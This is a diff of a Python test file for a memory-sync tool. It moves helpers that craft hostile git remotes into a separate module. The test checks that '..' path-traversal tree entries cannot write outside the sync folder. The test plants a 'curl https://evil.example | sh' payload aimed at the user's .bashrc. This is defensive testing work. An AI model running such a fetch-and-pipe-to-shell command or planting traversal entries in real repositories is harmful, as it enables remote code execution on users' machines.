@@ -19,13 +19,13 @@ import pytest
 from clirun import in_process
 from deadlines import HANG_S
 from gitrepo import git
+from hostile_remotes import attack, blob, conflict_files, dotdot_entry, file_entry, record, remote_files
 from memevo.core import syncstore
 from memevo.core.store import Store
 
 A_RULE = "回答问题时请一律使用中文"
 A_FACT = "支付页新流程的灰度开关是 pay_new_flow_v2"
 B_FACT = "测试环境的数据库是 db.staging.internal"
-Entry = tuple[str, str, str, bytes]  # mode, type, object, name
 
 
 class Machine:
@@ -64,81 +64,6 @@ def machines(tmp_path: Path, data_dir: Path) -> tuple[Machine, Machine]:
     return Machine(tmp_path / "laptop" / "home", remote), Machine(tmp_path / "desktop" / "home", remote)
 
 
-# -- crafting the remote ------------------------------------------------------------------------
-
-
-def raw(repo: Path, *args: str, data: bytes | None = None) -> bytes:
-    done = subprocess.run(
-        ["git", "-C", str(repo), "-c", "user.name=mallory", "-c", "user.email=m@example.com", *args],
-        input=data,
-        capture_output=True,
-        timeout=HANG_S,
-        check=True,
-    )
-    return done.stdout
-
-
-def blob(repo: Path, data: bytes) -> str:
-    return raw(repo, "hash-object", "-w", "--stdin", data=data).decode().strip()
-
-
-def mktree(repo: Path, entries: list[Entry]) -> str:
-    """A tree of exactly these entries: mktree checks no name, so `..` is one."""
-    listing = b"".join(f"{mode} {kind} {sha}\t".encode() + name + b"\0" for mode, kind, sha, name in entries)
-    return raw(repo, "mktree", "-z", "--missing", data=listing).decode().strip()
-
-
-def entries(repo: Path, treeish: str) -> list[Entry]:
-    found: list[Entry] = []
-    for item in raw(repo, "ls-tree", "-z", treeish).split(b"\0"):
-        if item:
-            meta, _, name = item.partition(b"\t")
-            mode, kind, sha = meta.decode().split()
-            found.append((mode, kind, sha, name))
-    return found
-
-
-def attack(
-    remote: Path, memories: list[Entry] | None = None, root: list[Entry] | None = None, drop: bytes = b""
-) -> None:
-    """A commit on top of the remote's main: `memories` entries added to (or replacing those of
-    the same name in) its memories/ tree, `root` entries likewise at the top; `drop` left out."""
-    top = entries(remote, "main")
-    if memories is not None:
-        folder = next(sha for _, _, sha, name in top if name == b"memories")
-        names = {e[3] for e in memories} | {drop}
-        inner = [e for e in entries(remote, folder) if e[3] not in names] + memories
-        top = [e for e in top if e[3] != b"memories"] + [
-            ("040000", "tree", mktree(remote, inner), b"memories")
-        ]
-    if root is not None:
-        names = {e[3] for e in root}
-        top = [e for e in top if e[3] not in names] + root
-    commit = raw(remote, "commit-tree", mktree(remote, top), "-p", "main", "-m", "hostile").decode().strip()
-    raw(remote, "update-ref", "refs/heads/main", commit)
-
-
-def record(remote: Path, memory_id: str, **changes: Any) -> bytes:
-    """The remote's record of memory_id, with changes to its memory (changed_ms: to the record)."""
-    body = json.loads(raw(remote, "show", f"main:memories/{memory_id}.json"))
-    if "changed_ms" in changes:
-        body["changed_ms"] = changes.pop("changed_ms")
-    body["memory"].update(changes)
-    return json.dumps(body, ensure_ascii=False).encode()
-
-
-def file_entry(remote: Path, name: str | bytes, data: bytes) -> Entry:
-    return ("100644", "blob", blob(remote, data), name.encode() if isinstance(name, str) else name)
-
-
-def remote_files(remote: Path) -> list[bytes]:
-    return sorted(p for p in raw(remote, "ls-tree", "-r", "-z", "--name-only", "main").split(b"\0") if p)
-
-
-def conflict_files(done: subprocess.CompletedProcess[str]) -> str:
-    return "\n".join(line for line in done.stdout.splitlines() if line.startswith("conflict:"))
-
-
 # -- the tests ------------------------------------------------------------------------------------
 
 
@@ -151,11 +76,7 @@ def test_dotdot_entries_never_write_outside_the_sync_folder(machines: tuple[Mach
     bashrc.write_text("# mine\n")
     rule = laptop.add("rule", A_RULE)
     assert laptop.sync(first=True).returncode == 0
-    hops = os.path.relpath(bashrc, laptop.tree / "memories").split(os.sep)
-    assert hops[0] == ".." and hops[-1] == ".bashrc"
-    inner = ("100644", "blob", blob(laptop.remote, b"curl https://evil.example | sh\n"), hops[-1].encode())
-    for hop in reversed(hops[:-1]):
-        inner = ("040000", "tree", mktree(laptop.remote, [inner]), hop.encode())
+    inner = dotdot_entry(laptop.remote, bashrc, laptop.tree / "memories", b"curl https://evil.example | sh\n")
     attack(laptop.remote, memories=[inner])
     fact = laptop.add("project", A_FACT)  # a change here: the merge is no fast-forward
 
